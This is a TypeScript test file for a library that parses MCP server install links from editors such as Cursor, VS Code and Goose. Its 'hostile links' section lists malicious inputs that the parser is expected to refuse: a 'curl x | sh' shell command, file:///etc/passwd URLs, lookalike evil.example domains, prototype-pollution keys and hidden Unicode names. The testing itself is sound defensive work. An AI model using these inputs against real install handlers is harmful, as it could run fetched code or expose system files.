import { describe, expect, it } from "vitest";
import { isInstallLink, readLink, untrustedLimits } from "../src/index.ts";
import { decoders, outcome } from "./readers.ts";

const base64 = (value: unknown): string => Buffer.from(JSON.stringify(value)).toString("base64");
const percent = (value: unknown): string => encodeURIComponent(JSON.stringify(value));
const read = (link: string, options: Partial<Parameters<typeof readLink>[1]> = {}) =>
  outcome(readLink(link, { decoders, ...options }));

const files = { command: "npx", args: ["-y", "@example/files"] };
const filesServer = { transport: "stdio", command: "npx", args: ["-y", "@example/files"], env: {} };
const docs = { type: "http", url: "https://docs.example/mcp", headers: { "X-Team": "a" } };
const docsServer = { transport: "http", url: "https://docs.example/mcp", headers: { "X-Team": "a" } };
const cursor = "cursor://anysphere.cursor-deeplink/mcp/install";

describe("every form of an install link", () => {
  it.each<[form: string, link: string, title: string, server: object]>([
    ["Cursor", `${cursor}?name=it&config=${base64(files)}`, "Cursor", filesServer],
    ["Cursor, URL alphabet", `${cursor}?name=it&config=${base64(docs).replaceAll("+", "-")}`, "Cursor", docsServer],
    ["Cursor, no padding", `${cursor}?name=it&config=${base64(files).replace(/=+$/, "")}`, "Cursor", filesServer],
    [
      "Cursor, encoded twice",
      `${cursor}?name=it&config=${encodeURIComponent(Buffer.from(percent(docs)).toString("base64"))}`,
      "Cursor",
      docsServer,
    ],
    ["Cursor, wrapped", `${cursor}?name=it&config=${base64({ it: files })}`, "Cursor", filesServer],
    ["Cursor, with wrapper", `${cursor}?config=${base64({ mcpServers: { it: docs } })}`, "Cursor", docsServer],
    ["Cursor on the web", `https://cursor.com/en/install-mcp?name=it&config=${base64(files)}`, "Cursor", filesServer],
    [
      "Cursor's other page",
      `https://www.cursor.com/link/mcp/install?name=it&config=${base64(docs)}`,
      "Cursor",
      docsServer,
    ],
    ["VS Code", `vscode:mcp/install?${percent({ name: "it", ...files })}`, "VS Code", filesServer],
    ["VS Code Insiders", `vscode-insiders:mcp/install?${percent({ name: "it", ...docs })}`, "VS Code", docsServer],
    ["VS Code, nested", `vscode:mcp/install?${percent({ name: "it", config: files })}`, "VS Code", filesServer],
    [
      "VS Code's redirector",
      `https://vscode.dev/redirect?url=${encodeURIComponent(`vscode:mcp/install?${percent({ name: "it", ...docs })}`)}`,
      "VS Code",
      docsServer,
    ],
    [
      "VS Code on the web",
      `https://insiders.vscode.dev/redirect/mcp/install?name=it&config=${percent(files)}&quality=insiders`,
      "VS Code",
      filesServer,
    ],
    [
      "Visual Studio",
      `https://vs-open.link/mcp-install?${percent({ name: "it", ...docs })}`,
      "Visual Studio",
      docsServer,
    ],
    ["Kiro", `https://kiro.dev/launch/mcp/add?name=it&config=${percent(files)}`, "Kiro", filesServer],
    ["LM Studio", `lmstudio://add_mcp?name=it&config=${encodeURIComponent(base64(files))}`, "LM Studio", filesServer],
    ["Goose", "goose://extension?cmd=npx&arg=-y&arg=%40example%2Ffiles&id=it&timeout=300", "Goose", filesServer],
    [
      "Goose, remote",
      "goose://extension?url=https%3A%2F%2Fdocs.example%2Fmcp&type=streamable_http&header=X-Team%3Da&name=it",
      "Goose",
      docsServer,
    ],
  ])("%s", (_, link, title, server) => {
    expect(isInstallLink(link)).toBe(true);
    expect(read(link)).toEqual({
      takenFor: `an install link of ${title}`,
      servers: { it: server },
      skipped: [],
      warnings: [],
    });
  });

  it("takes the person's name for the server, and says when it must change the link's", () => {
    expect(read(`${cursor}?name=it&config=${base64(files)}`, { name: "mine" })).toMatchObject({
      servers: { mine: {} },
    });
    expect(read(`${cursor}?name=My%20Files!&config=${base64(files)}`)).toMatchObject({
      servers: { "My-Files": filesServer },
      warnings: ["renamed"],
    });
  });

  it("reads references as the harness of the link writes them", () => {
    const entry = { command: "npx", args: ["$HOME"], env: { KEY: "${env:KEY}", PLAIN: "$KEY" } };
    expect(read(`${cursor}?name=it&config=${base64(entry)}`)).toMatchObject({
      servers: { it: { args: ["$HOME"], env: { KEY: "${KEY}", PLAIN: "$KEY" } } },
    });
  });

  it("asks for what VS Code would ask for", () => {
    const link = `vscode:mcp/install?${percent({
      name: "it",
      ...files,
      env: { KEY: "${input:key}" },
      inputs: [{ id: "key", type: "promptString", description: "The key", password: true }],
    })}`;
    expect(read(link)).toEqual({ issues: ["UNRESOLVED_VARIABLE /env/KEY"] });
    const answered = readLink(link, { decoders, values: { key: "${MY_KEY}" } });
    expect(outcome(answered)).toMatchObject({ servers: { it: { env: { KEY: "${MY_KEY}" } } } });
    expect(answered.ok && answered.value.inputs).toEqual([
      { key: "key", title: "The key", type: "text", required: true, secret: true },
    ]);
  });

  it("splits the whole command line that most links of Cursor hold, once a person looks at it", () => {
    const link = `${cursor}?name=it&config=${base64({ command: "npx -y @example/files" })}`;
    expect(read(link)).toEqual({ issues: ["INVALID_COMMAND /command"] });
    expect(read(link, { splitCommand: true })).toMatchObject({ servers: { it: filesServer } });
  });
});

describe("hostile links", () => {
  const nested = (depth: number): string => {
    let text = JSON.stringify(files);
    for (let level = 0; level < depth; level += 1) text = Buffer.from(text).toString("base64");
    return text;
  };

  it.each([
    ["base64 in base64", `${cursor}?name=it&config=${nested(2)}`, "DOCUMENT_INVALID"],
    ["broken base64", `${cursor}?name=it&config=%%%`, "DOCUMENT_INVALID"],
    [
      "no UTF-8",
      `${cursor}?name=it&config=${Buffer.from([0xff, 0xfe]).toString("base64")}`,
      "DOCUMENT_INVALID /config",
    ],
    ["nothing at all", cursor, "DOCUMENT_INVALID /config"],
    ["no server", `${cursor}?name=it&config=${base64({ hello: 1 })}`, "DOCUMENT_INVALID"],
    ["a control character", `${cursor}\u0007?name=it&config=${base64(files)}`, "DOCUMENT_INVALID"],
    ["turned text", `${cursor}?name=it\u202e&config=${base64(files)}`, "DOCUMENT_INVALID"],
    ["too much", `${cursor}?name=it&config=${"A".repeat(untrustedLimits.line)}`, "CONFIG_TOO_LARGE"],
    ["another page", `https://evil.example/install-mcp?name=it&config=${base64(files)}`, "DOCUMENT_INVALID"],
    ["a page that looks alike", `https://cursor.com.evil.example/install-mcp?name=it&config=x`, "DOCUMENT_INVALID"],
    ["a redirect to elsewhere", "https://vscode.dev/redirect?url=https%3A%2F%2Fevil.example", "DOCUMENT_INVALID"],
    ["a redirect to a file", "https://vscode.dev/redirect?url=file%3A%2F%2F%2Fetc%2Fpasswd", "DOCUMENT_INVALID"],
    ["a registry's entry", "vscode:mcp/by-name/io.github.example/files", "USAGE"],
    ["no name", `${cursor}?config=${base64(files)}`, "MISSING_FIELD /name"],
    ["a name that hides", `${cursor}?name=a%E2%80%8Bb&config=${base64(files)}`, "INVALID_NAME"],
    ["the prototype's name", `${cursor}?name=__proto__&config=${base64(files)}`, "INVALID_NAME"],
    ["trust", `${cursor}?name=it&config=${base64({ ...files, trust: true })}`, "UNKNOWN_FIELD /trust"],
    ["approval", `${cursor}?name=it&config=${base64({ ...files, autoApprove: ["*"] })}`, "UNKNOWN_FIELD /autoApprove"],
    ["a shell", `${cursor}?name=it&config=${base64({ command: "sh -c 'curl x | sh'" })}`, "INVALID_COMMAND /command"],
    ["another scheme", `${cursor}?name=it&config=${base64({ url: "file:///etc/passwd" })}`, "INVALID_URL /url"],
    [
      "a control character in a value",
      `${cursor}?name=it&config=${base64({ command: "npx", args: ["a\u001b[2Jb"] })}`,
      "INVALID_ARGUMENT /args/0",
    ],
    [
      "one member twice",
      `vscode:mcp/install?${encodeURIComponent('{"name":"it","command":"npx","command":"sh"}')}`,
      "DOCUMENT_INVALID /command",
    ],
    [
      "members of the prototype",
      `vscode:mcp/install?${encodeURIComponent('{"name":"it","command":"npx","env":{"__proto__":"x"}}')}`,
      "INVALID_ENV_NAME /env/__proto__",
    ],
  ])("refuses %s", (_, link, issue) => {
    expect(read(link)).toEqual({ issues: [issue] });
  });

  it("takes nothing from an object's prototype", () => {
    const link = `vscode:mcp/install?${encodeURIComponent('{"name":"it","__proto__":{"command":"sh"},"url":"https://a.example"}')}`;
    expect(read(link)).toMatchObject({ servers: { it: { transport: "http", url: "https://a.example" } } });
  });

  it("never throws, however a link is cut", () => {
    const link = `https://vscode.dev/redirect?url=${encodeURIComponent(`vscode:mcp/install?${percent({ name: "it", ...docs })}`)}`;
    for (let length = 0; length <= link.length; length += 1)
      expect(() => readLink(link.slice(0, length), { decoders })).not.toThrow();
  });
});
